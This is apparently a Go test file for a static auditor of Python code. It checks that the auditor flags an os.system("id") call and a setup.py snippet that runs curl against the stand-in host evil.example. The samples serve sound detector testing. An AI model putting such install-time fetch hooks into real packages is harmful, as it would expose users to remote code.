package core

import (
	"context"
	"os"
	"path/filepath"
	"testing"
)

func TestAudit_Smoke(t *testing.T) {
	dir := t.TempDir()
	src := "import os\nos.system(\"id\")\n"
	if err := os.WriteFile(filepath.Join(dir, "mod.py"), []byte(src), 0o644); err != nil {
		t.Fatal(err)
	}
	res, err := Audit(context.Background(), Options{Root: dir})
	if err != nil {
		t.Fatalf("Audit error: %v", err)
	}
	if len(res.Units) != 1 {
		t.Fatalf("expected 1 unit, got %d", len(res.Units))
	}
	if len(res.Units[0].Verdict.Findings) == 0 {
		t.Fatal("expected a finding for os.system")
	}
	if len(DetectorIDs()) == 0 {
		t.Fatal("expected non-empty detector IDs")
	}
}

func TestAuditUnits_InMemory(t *testing.T) {
	u := NewUnit("setup.py", []byte("import subprocess\nsubprocess.run([\"curl\", \"http://evil.example/x\"])\n"))
	res := AuditUnits(context.Background(), []Unit{u}, Options{})
	if len(res.Units) != 1 {
		t.Fatalf("expected 1 unit, got %d", len(res.Units))
	}
	if res.Units[0].Verdict.Label == "" {
		t.Fatal("expected a label")
	}
}
